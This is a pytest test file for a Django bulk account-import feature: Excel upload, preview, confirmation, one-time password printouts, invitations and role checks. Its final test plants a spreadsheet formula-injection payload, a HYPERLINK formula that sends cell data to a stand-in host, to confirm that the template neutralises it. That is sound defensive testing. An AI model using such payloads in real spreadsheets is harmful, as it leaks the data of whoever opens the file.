"""The import pages: upload /tai-khoan/nhap-tu-excel/, preview, confirm, the printable passwords; the template file."""

from __future__ import annotations

import io
import re

import openpyxl
import pytest

from dti.accounts.models import User
from dti.units.models import Unit
from tests.accounts.conftest import accounts_state, text

URL = "/tai-khoan/nhap-tu-excel/"
CONFIRM = "/tai-khoan/nhap-tu-excel/xac-nhan/"
TEMPLATE = "/tai-khoan/mau-nhap-tai-khoan.xlsx"
REFUSED = ["reporter", "leader", "other_reporter", "other_leader", "appraiser", "chair", "viewer"]
MSG_MANAGE = "Chỉ cơ quan tổ chức đánh giá mới được quản lý tài khoản người dùng."


def upload(client, path):
    with path.open("rb") as handle:
        return client.post(URL, {"file": handle})


def token_of(response) -> str:
    return re.search(r'name="token" value="([^"]+)"', response.content.decode()).group(1)


def test_the_page_explains_the_columns_and_offers_the_template(world, login):
    body = text(login("organiser").get(URL))
    for column in ("Họ và tên", "Vai trò", "Đơn vị", "E-mail", "Tên đăng nhập"):
        assert f"<strong>{column}</strong>" in body
    assert f'href="{TEMPLATE}"' in body
    assert "<td>reporter</td><td>Cán bộ nhập liệu</td>" in body
    assert "<td>admin</td>" not in body  # an organiser gives no administrator role
    assert "<td>admin</td>" in text(login("admin").get(URL))


def test_upload_preview_confirm_print(world, login, xlsx):
    client = login("organiser")
    path = xlsx(
        [
            ["Nguyễn Văn An", "nhập liệu", "UBND huyện Một", "", ""],
            ["Trần Thị Bình", "lãnh đạo", "UBND huyện Một", "", "motnhat.lanhdao"],
        ]
    )
    before = accounts_state()
    preview = upload(client, path)
    assert preview.status_code == 200
    body = text(preview)
    assert "Tệp tai-khoan.xlsx hợp lệ: 2 tài khoản sẽ được tạo. Chưa có gì được ghi" in body
    assert 'annv <span class="badge">tự tạo</span>' in body and "motnhat.lanhdao" in body
    assert 'name="invite"' not in body  # no row has an e-mail
    assert accounts_state() == before

    done = client.post(CONFIRM, {"token": token_of(preview)})
    assert done.status_code == 200 and "no-store" in done["Cache-Control"]
    page = done.content.decode()
    assert '<link rel="stylesheet" href="/static/accounts/print.css">' in page
    cells = r'<tr><td class="num">(\d+)</td><td>([^<]*)</td><td>([^<]*)</td><td>[^<]*</td>'
    codes = r'<td><code>([^<]+)</code></td><td><code class="password">([^<]+)</code></td></tr>'
    rows = re.findall(cells + codes, page)
    assert [(r[0], r[1], r[2], r[3]) for r in rows] == [
        ("1", "UBND huyện Một", "Nguyễn Văn An", "annv"),
        ("2", "UBND huyện Một", "Trần Thị Bình", "motnhat.lanhdao"),
    ]
    for *_, username, password in rows:
        assert User.objects.get(username=username).check_password(password)
    assert "Đăng nhập tại <strong>http://127.0.0.1:8000/dang-nhap/</strong>" in text(done)


def test_the_passwords_are_not_shown_again(world, login, xlsx):
    client = login("organiser")
    token = token_of(upload(client, xlsx([["Nguyễn Văn An", "xem", "", "", ""]])))
    assert client.post(CONFIRM, {"token": token}).status_code == 200
    before = accounts_state()
    again = client.post(CONFIRM, {"token": token})  # a reload of the confirmation
    assert again.status_code == 422
    assert "Tên đăng nhập “annv” đã có người dùng." in text(again) and 'class="password"' not in again.content.decode()
    assert accounts_state() == before


def test_invitations_when_ticked(world, login, xlsx, mailoutbox, django_capture_on_commit_callbacks):
    client = login("admin")
    preview = upload(
        client, xlsx([["Nguyễn Văn An", "xem", "", "an@motnhat.gov.vn", ""], ["Trần Thị Bình", "xem", "", "", ""]])
    )
    assert "Gửi thư mời qua e-mail cho 1 tài khoản có e-mail" in text(preview)
    with django_capture_on_commit_callbacks(execute=True):
        done = client.post(CONFIRM, {"token": token_of(preview), "invite": "1"})
    body = text(done)
    assert "Đã gửi thư mời qua e-mail" in body and "an@motnhat.gov.vn" in body
    assert body.count('class="password"') == 1 and "binhtt" in body
    assert [m.to for m in mailoutbox] == [["an@motnhat.gov.vn"]]


def test_a_bad_file_shows_every_problem_and_saves_nothing(world, login, csv_file):
    before = accounts_state()
    path = csv_file("Họ và tên,Vai trò,Đơn vị\nNguyễn Văn An,thư ký,\nTrần Thị Bình,nhập liệu,Không Có\n")
    response = upload(login("organiser"), path)
    assert response.status_code == 422
    body = text(response)
    assert "Tệp có 2 lỗi; chưa có tài khoản nào được tạo." in body
    assert "dòng 2, cột B (Vai trò)" in body and "Không có vai trò “thư ký”" in body
    assert "dòng 3, cột C (Đơn vị)" in body and "Không có đơn vị “Không Có”" in body
    assert accounts_state() == before


def test_post_without_a_file(world, login):
    response = login("organiser").post(URL, {})
    assert response.status_code == 422 and "Hãy chọn tệp Excel (.xlsx) hoặc CSV để nhập." in text(response)


def test_confirm_without_a_valid_token(world, login):
    before = accounts_state()
    response = login("organiser").post(CONFIRM, {"token": "gia-mao"})
    assert response.status_code == 422
    assert "Bản xem trước đã hết hạn hoặc không hợp lệ; hãy tải tệp lên lại." in text(response)
    assert accounts_state() == before


def test_the_template_is_a_workbook_the_import_accepts(world, login, tmp_path):
    Unit.objects.create(name="UBND huyện Gia Bình", unit_type=world["unit"].unit_type)
    client = login("organiser")
    response = client.get(TEMPLATE)
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="mau-nhap-tai-khoan.xlsx"'
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Tài khoản", "Vai trò", "Đơn vị"]
    assert [c.value for c in workbook["Tài khoản"][1]] == ["Họ và tên", "Vai trò", "Đơn vị", "E-mail", "Tên đăng nhập"]
    assert ["admin", "Quản trị hệ thống"] not in [list(r) for r in workbook["Vai trò"].iter_rows(values_only=True)]
    units = [r[0] for r in workbook["Đơn vị"].iter_rows(min_row=2, values_only=True)]
    assert units == ["UBND huyện Gia Bình", "UBND huyện Hai", "UBND huyện Một", "UBND tỉnh Thử Nghiệm"]
    path = tmp_path / "mau.xlsx"
    path.write_bytes(response.content)
    preview = upload(client, path)
    assert preview.status_code == 200
    assert "2 tài khoản sẽ được tạo" in text(preview)


@pytest.mark.parametrize("persona", REFUSED)
def test_other_roles_are_refused(world, login, xlsx, persona):
    client = login(persona)
    path = xlsx([["Nguyễn Văn An", "xem", "", "", ""]])
    token = token_of(upload(login("organiser"), path))
    before = accounts_state()
    for response in (
        client.get(URL),
        client.get(TEMPLATE),
        upload(client, path),
        client.post(CONFIRM, {"token": token}),
    ):
        assert response.status_code == 403
        assert MSG_MANAGE in text(response)
    assert accounts_state() == before


@pytest.mark.parametrize("url", [URL, TEMPLATE])
def test_anonymous_is_sent_to_sign_in(world, login, url):
    response = login("anonymous").get(url)
    assert response.status_code == 302 and response["Location"].startswith("/dang-nhap/")


def test_confirm_is_post_only(world, login):
    assert login("organiser").get(CONFIRM).status_code == 405


def test_the_template_neutralises_a_formula_unit_name(world, login):
    """Issue 10 §3: a unit name a spreadsheet would run is written with a leading apostrophe, as text."""
    Unit.objects.create(name='=HYPERLINK("http://x.example/?leak="&A2,"Xem")', unit_type=world["unit"].unit_type)
    workbook = openpyxl.load_workbook(io.BytesIO(login("organiser").get(TEMPLATE).content))
    cells = [row[0] for row in workbook["Đơn vị"].iter_rows(min_row=2)]
    assert cells[0].value == '\'=HYPERLINK("http://x.example/?leak="&A2,"Xem")' and cells[0].data_type == "s"
